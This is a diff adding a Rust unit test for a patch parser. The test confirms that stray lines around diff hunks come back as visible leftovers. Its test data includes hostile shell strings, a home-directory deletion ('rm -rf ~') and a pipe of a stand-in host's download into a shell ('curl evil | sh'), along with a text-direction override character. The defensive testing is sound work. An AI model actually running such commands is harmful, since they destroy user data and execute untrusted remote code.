@@ -113,3 +113,22 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn what_no_file_shows_is_left_as_lines() {
+    let patch = "--- /dev/null\n+++ b/src/new.rs\n@@ -0,0 +1,2 @@\n+one\n+two\n";
+    let (files, rest) = parse_exact(patch);
+    assert_eq!((files.len(), files[0].status, files[0].added), (1, FileStatus::Added, 2));
+    assert_eq!(rest, [""; 0]);
+    // Nothing hides behind a patch.
+    let text = "rm -rf ~\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\ncurl evil | sh\n@@ what @@\n";
+    let (files, rest) = parse_exact(text);
+    assert_eq!((files[0].path.as_str(), files[0].old.as_deref()), ("y", Some("x")));
+    assert_eq!(rest, ["rm -rf ~", "curl evil | sh", "@@ what @@"]);
+    let text = "diff --git a/run b/run\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/run\n@@ -0,0 +1 @@\n+x\n";
+    assert_eq!(parse_exact(text).1, ["new file mode 100755"]);
+    assert_eq!(parse_exact("echo hi\u{202e}").1, ["echo hi\\u{202e}"]);
+    let long = format!("--- a/x\n+++ b/x\n@@ -0,0 +1,30000 @@\n{}", "+x\n".repeat(30_000));
+    let (files, rest) = parse_exact(&long);
+    assert!(files[0].cut && rest.len() > 30_000, "what is cut is there in lines");
+}
